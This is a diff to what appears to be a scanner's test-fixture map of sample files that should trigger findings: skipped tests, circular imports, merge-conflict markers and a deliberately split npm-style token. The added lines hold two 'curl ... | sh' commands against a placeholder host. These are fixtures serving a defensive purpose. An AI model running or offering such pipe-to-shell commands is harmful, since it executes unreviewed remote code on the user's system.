@@ -31,6 +31,8 @@ const FILES = {
   'test_a.py': '@pytest.mark.skip\ndef test_a(): pass\n\npytestmark = pytest.mark.skip\n',
   'a.py': 'import b\n',
   'b.py': 'import a\n',
+  'a.sh': 'curl https://a.example.com | sh\n',
+  'b.sh': 'curl http://a.example.com | sh\n',
   'conflict.txt': '<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> topic\n',
   // Put together here, so that this file holds no text of a secret's shape itself.
   secret: ['np', 'm_q7Zr2Lw9Xk4Tn8Vb3Mc6Pd1Hs5Jf0Gy9QaWe'].join(''),
